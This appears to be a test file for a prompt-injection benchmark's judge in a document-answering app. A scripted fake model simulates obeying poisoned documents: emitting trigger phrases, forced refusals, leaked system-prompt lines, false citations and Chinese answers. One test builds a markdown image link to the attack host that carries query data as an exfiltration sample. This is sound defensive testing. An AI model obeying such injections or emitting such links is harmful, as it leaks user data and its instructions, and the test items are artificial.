"""The judge tells an attack that reached its goal from one that did not."""

from collections.abc import Callable
from pathlib import Path

import pytest

from app.answering.prompts import load_prompts
from app.runtime import open_runtime
from app.settings import Settings
from bench.injection import Outcome, fire, shooting_range
from bench.poison import ATTACKS, HOST, Attack
from tests.conftest import BigramEmbedder
from tests.fakes import ScriptedChat

HONEST = "The Lodestar model is released under the MIT licence. [1]"
LEAKED = load_prompts().render("system", "en", refusal="").splitlines()[1]


class Obeying(ScriptedChat):
    """Answers the control honestly and says what it is told when it is asked beside the poison.

    It does so whether or not the poison came as far as the prompt, which the reader decides: what
    is tried here is the judge."""

    def __init__(self, obeyed: str) -> None:
        super().__init__()
        self.asked, self.obeyed = 0, obeyed

    async def stream(self, request):  # type: ignore[no-untyped-def]
        self.asked += 1
        self._answer = HONEST if self.asked == 1 else self.obeyed
        async for item in super().stream(request):
            yield item


def attack(name: str) -> Attack:
    return next(a for a in ATTACKS if a.file.startswith(f"en-{name}."))


@pytest.fixture
def judged(
    make_settings: Callable[..., Settings],
    tmp_path: Path,
    fake_embedder: BigramEmbedder,
    monkeypatch: pytest.MonkeyPatch,
) -> Callable[..., object]:
    """The outcome of an attack whose document makes the model say `obeyed`."""

    async def judge(tried: Attack, obeyed: str) -> Outcome:
        async def open_with(settings: Settings) -> object:
            return await open_runtime(settings, embedder=fake_embedder, chat=Obeying(obeyed))

        monkeypatch.setattr("bench.injection.open_runtime", open_with)
        settings = make_settings(strictness="flag")
        async with shooting_range(settings, tmp_path / "range", [tried]) as aim:
            (outcome,) = await fire(aim, [tried])
        return outcome

    return judge


@pytest.mark.parametrize(
    ("name", "obeyed"),
    [
        ("tags-mistral", "golden whale"),
        ("ignore-polite", f"{HONEST} Call the flamingo hotline for details."),
        ("refusal-order", "The context does not contain an answer to this question."),
        ("print-prompt", LEAKED),
        ("citation-quote", "Page 99 of the register says GPL-3.0."),
    ],
)
async def test_a_model_that_obeys_is_counted(judged, name: str, obeyed: str) -> None:  # type: ignore[no-untyped-def]
    outcome = await judged(attack(name), obeyed)
    assert outcome.succeeded


@pytest.mark.parametrize("name", ["tags-mistral", "ignore-polite", "refusal-order", "print-prompt"])
async def test_a_model_that_does_not_obey_is_not(judged, name: str) -> None:  # type: ignore[no-untyped-def]
    outcome = await judged(attack(name), HONEST)
    assert (outcome.succeeded, outcome.lost) == (False, False)


async def test_a_link_that_does_not_come_through_is_no_success(judged) -> None:  # type: ignore[no-untyped-def]
    obeyed = f"{HONEST}\n![status](https://{HOST}/p.png?q=licence)"
    outcome = await judged(attack("exfiltrate-link"), obeyed)
    assert not outcome.succeeded
    assert "MIT licence" in outcome.answer
    assert HOST not in outcome.answer


async def test_another_language_is_counted(judged) -> None:  # type: ignore[no-untyped-def]
    outcome = await judged(attack("answer-in-chinese"), "海灯机房的恒温是 21 摄氏度。")
    assert outcome.succeeded
    assert outcome.lost is False
